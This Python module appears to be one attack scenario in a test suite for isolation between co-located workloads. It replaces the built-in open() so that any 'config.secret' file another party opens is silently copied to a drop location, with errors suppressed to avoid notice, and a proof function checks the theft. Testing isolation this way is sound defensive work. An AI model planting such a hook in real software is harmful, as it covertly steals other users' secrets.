"""Leave an open() that copies what the neighbour opens."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from workloads.attacks.scene import Given, Scene


def attack(given: Given) -> object:
    import builtins
    import contextlib

    real = builtins.open
    drop = given.drop

    def copying(path: object, *rest: object, **named: object) -> object:
        file = real(path, *rest, **named)  # type: ignore[call-overload]
        if str(path).endswith("config.secret"):
            with (
                contextlib.suppress(OSError),  # or the neighbour would notice
                real(path) as source,  # type: ignore[call-overload]
                real(f"{drop}/copy", "w") as copy,
            ):
                copy.write(source.read())
        return file

    builtins.open = copying  # type: ignore[assignment]
    return "patched"


def proof(scene: Scene) -> str | None:
    scene.visit()
    return scene.stolen(scene.secret, "what the neighbour read next")
